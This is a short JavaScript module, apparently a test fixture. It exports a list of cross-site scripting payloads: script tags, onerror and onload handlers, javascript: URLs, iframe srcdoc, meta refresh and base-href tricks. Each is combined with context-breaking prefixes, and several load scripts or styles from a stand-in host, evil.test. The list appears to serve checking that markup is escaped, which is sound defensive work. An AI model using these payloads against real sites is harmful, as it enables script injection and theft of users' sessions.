/** What would run, load or lead somewhere. */
const elements = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.test/a.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<style>@import "https://evil.test/a.css"</style>',
  '<link rel=stylesheet href=https://evil.test/a.css>',
  '<template><img src=x onerror=alert(1)></template>',
]

/** How a text may get out of where it stands first. */
const ways = ['', '">', "'>", '</title>', '</textarea>', '-->', '{{x}}', '$t(key)']

/** Texts that are markup, and would be elements where they are not text. */
export const markup = ways.flatMap((way) => elements.map((element) => `${way}${element}`))
